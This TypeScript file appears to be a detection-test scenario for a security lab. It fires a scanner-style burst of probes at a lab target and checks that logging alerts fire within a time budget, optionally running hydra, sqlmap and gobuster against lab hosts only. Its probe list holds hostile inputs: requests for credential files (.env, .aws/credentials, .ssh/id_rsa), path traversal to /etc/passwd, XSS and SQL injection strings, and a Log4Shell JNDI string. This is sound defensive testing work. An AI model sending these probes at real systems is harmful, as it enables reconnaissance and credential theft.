import type { ApiRecord } from '../collector-client';
import { check, count, type TargetScenario } from '../scenario';
import { TOOL_NAMES, TOOL_USER_AGENT, findTool, isLabHost, runTools, type ToolName, type ToolRun } from '../tools';
import type { Check } from '../types';
import type { WindowView } from '../window';
import { BENDER, eventsCheck } from './juice';

/** Alerts that say "someone is scanning us". */
export const SCAN_ALERTS = ['malicious_probe', 'malicious_excess_404', 'malicious_payload', 'malicious_attack_tool'];

/** A scan alert must reach the defenders this fast (from the scan's first request). */
export const SCAN_ALERT_BUDGET_MS = 1000;

/** The built-in burst, in the style of ZAP's and nikto's first passes. */
export function probePaths(nonce: string): string[] {
  const q = (value: string): string => `/rest/products/search?q=${encodeURIComponent(value)}`;
  return [
    // hidden files and version control
    '/.env', '/.env.local', '/.git/HEAD', '/.git/config', '/.svn/entries', '/.hg/store', '/.htaccess', '/.htpasswd',
    '/.DS_Store', '/.aws/credentials', '/.ssh/id_rsa', '/config.php', '/backup.sql', '/db.sql.bak', '/index.php.old',
    // traversal (encoded: a client would normalise ../)
    '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', '/ftp/..%2f..%2f..%2fetc%2fpasswd', '/public/..%252f..%252f..%252fetc%252fpasswd', q('../../../../etc/passwd'),
    // Java and admin consoles
    '/WEB-INF/web.xml', '/WEB-INF/classes/', '/META-INF/MANIFEST.MF', '/wp-admin/', '/wp-login.php', '/xmlrpc.php', '/phpmyadmin/',
    '/server-status', '/server-info', '/actuator/health', '/actuator/env', '/cgi-bin/test.cgi',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/boaform/admin/formLogin',
    // XSS and SQL injection markers
    q('<script>alert(1)</script>'), q('<iframe src="javascript:alert(`xss`)">'), q('<img src=x onerror=alert(1)>'),
    q("' OR '1'='1"), q("1' OR 1=1--"), q('1 UNION SELECT null,null--'), q('1 AND SLEEP(5)'), q("1; WAITFOR DELAY '0:0:5'--"),
    q('${jndi:ldap://a09.invalid/a}'),
    // a burst of paths that do not exist
    ...Array.from({ length: 20 }, (_, i) => (i % 2 === 0 ? `/api/a09${nonce}${i}` : `/assets/public/a09-${nonce}-${i}.bak`)),
  ];
}

function safeDecode(path: string): string {
  try {
    return decodeURIComponent(path);
  } catch {
    return path;
  }
}

function toolRecords(view: WindowView, tool: ToolName): ApiRecord[] {
  const agent = TOOL_USER_AGENT[tool];
  return view.records.filter((record) => (record.event !== undefined ? agent.test(record.event.who.userAgent ?? '') : agent.test(record.message ?? '')));
}

/** The kind of alert each tool's attack must raise besides the attack-tool alert. */
const TOOL_ALERTS: Record<ToolName, string[]> = {
  hydra: ['authn_login_fail_max', 'authn_login_successafterfail', 'authn_password_spray'],
  sqlmap: ['malicious_sqli', 'malicious_payload'],
  gobuster: ['malicious_probe', 'malicious_excess_404'],
};

/**
 * A tool's check: its requests are events, and alerts fire that the built-in burst cannot have raised
 * (keyed by the tools' address or an account, not by the burst's own address).
 */
function toolCheck(view: WindowView, tool: ToolName, runs: readonly ToolRun[], burstAddress: string | undefined): Check {
  const records = toolRecords(view, tool);
  const ran = runs.filter((run) => run.tool === tool);
  const ranText = ran.map((run) => `${run.ms} ms${run.timedOut ? ', timed out' : ''}`).join(', ');
  const notBurst = view.alerts.filter((alert) => burstAddress === undefined || alert.key !== `ip:${burstAddress}`);
  const toolAlert = notBurst.some((alert) => alert.type === 'malicious_attack_tool');
  const kinds = [...new Set(notBurst.filter((alert) => TOOL_ALERTS[tool].includes(alert.type)).map((alert) => alert.type))];
  const events = records.filter((record) => record.event !== undefined);
  const passed = events.length > 0 && toolAlert && kinds.length > 0;
  const detail = events.length === 0
    ? `ran (${ranText}); ${count(records.length, 'record')} with its User-Agent at the collector, none an a09 event`
    : `ran (${ranText}); ${count(events.length, 'event')} with its User-Agent; alerts: ${toolAlert ? 'malicious_attack_tool' : 'no malicious_attack_tool'}, ${kinds.length > 0 ? kinds.join(', ') : `none of ${TOOL_ALERTS[tool].join('/')}`}`;
  return check(`tool:${tool}`, `${tool}: its requests are recorded and raise the attack-tool alert and one of ${TOOL_ALERTS[tool].join('/')}`, passed, detail);
}

export const dastScan: TargetScenario = {
  id: 'dast-scan',
  title: 'Scanner probe burst (DAST)',
  a09: 'Penetration tests and DAST scans do not trigger alerts',
  cwe: 'CWE-778 (Insufficient Logging)',
  attack: 'A burst in the style of ZAP and nikto with a browser User-Agent: hidden files, traversal, .env, WEB-INF, admin consoles, XSS and SQL injection markers, 20 missing paths. With --tools: hydra, sqlmap and gobuster too.',
  scope: 'target',
  async run(run) {
    const paths = probePaths(run.nonce);
    const statuses = new Map<number, number>();
    for (const path of paths) {
      const response = await run.http.get(path);
      statuses.set(response.status, (statuses.get(response.status) ?? 0) + 1);
    }
    run.note(`${count(paths.length, 'probe')} with a browser User-Agent: ${[...statuses].map(([status, n]) => `${n}x ${status}`).join(', ')}`);
    run.sample('the probes (URL-decoded)', paths.map((path) => safeDecode(path)).join('\n'));

    const toolRuns: ToolRun[] = [];
    let toolsWanted: ToolName[] = [];
    if (run.tools) {
      const host = new URL(run.target.url).hostname;
      if (!(await isLabHost(host))) {
        run.note(`--tools: skipped, ${host} is not a loopback or private address (the lab runs real tools only against lab targets)`);
      } else {
        const available: Partial<Record<ToolName, string>> = {};
        for (const tool of TOOL_NAMES) {
          const file = findTool(tool);
          if (file !== undefined) available[tool] = file;
          else run.note(`--tools: ${tool} is not installed (skipped; Debian package ${tool})`);
        }
        toolsWanted = TOOL_NAMES.filter((tool) => available[tool] !== undefined);
        const wildcard = await run.http.get(`/a09-${run.nonce}-missing`);
        run.progress(`running ${toolsWanted.join(', ')} against ${run.target.name}`);
        toolRuns.push(...(await runTools({ url: run.target.url, account: BENDER, ...(wildcard.status === 200 && { wildcardLength: Buffer.byteLength(wildcard.text) }) }, available)));
        for (const tool of toolRuns) run.note(`${tool.command} -> exit ${tool.exitCode ?? 'none'}${tool.timedOut ? ' (timed out)' : ''} in ${tool.ms} ms`);
      }
    }

    // The tools connect from the default source address, not the scenario's own.
    // Wait for each tool's own kind of alert too: on a loaded machine hydra's and sqlmap's arrive after the probe's.
    const toolAlerts = [...(toolsWanted.includes('hydra') ? ['authn_login_fail_max'] : []), ...(toolsWanted.includes('sqlmap') ? ['malicious_sqli'] : [])];
    const view = await run.observe({
      expectAlerts: ['malicious_probe', ...(toolsWanted.length > 0 ? ['malicious_attack_tool', ...toolAlerts] : [])],
      ...(toolRuns.length > 0 && { alsoFrom: ['127.0.0.1', '::1', '::ffff:127.0.0.1'] }),
    });
    const scanAlerts = view.alerts.filter((alert) => SCAN_ALERTS.includes(alert.type) && alert.afterMs !== undefined);
    const mine = run.attackerAddress !== undefined ? scanAlerts.filter((alert) => alert.key === `ip:${run.attackerAddress}`) : scanAlerts;
    const first = mine.sort((a, b) => (a.afterMs ?? 0) - (b.afterMs ?? 0))[0];
    const checks: Check[] = [
      eventsCheck(view, 'http_request', paths.length, `every probe is recorded as an http_request with the source address (${paths.length})`),
      check(
        'alert:scan',
        'a scan alert (probe, payload, 404 burst) keyed by the scanning address',
        first !== undefined,
        first === undefined ? (scanAlerts.length > 0 ? `scan alerts, but none keyed by the scanner's address (${scanAlerts.map((a) => a.key).join(', ')})` : 'no scan alert') : `${first.type} ${first.id.slice(0, 8)} "${first.title}" key ${first.key}`,
      ),
      check(
        'alert:in-time',
        `the first scan alert arrives within ${SCAN_ALERT_BUDGET_MS} ms of the first probe`,
        first?.afterMs !== undefined && first.afterMs <= SCAN_ALERT_BUDGET_MS,
        first?.afterMs === undefined ? 'no alert' : `${first.afterMs} ms`,
      ),
    ];
    for (const tool of toolsWanted) checks.push(toolCheck(view, tool, toolRuns, run.ownAddress ? run.attackerAddress : undefined));
    return { checks, view };
  },
};
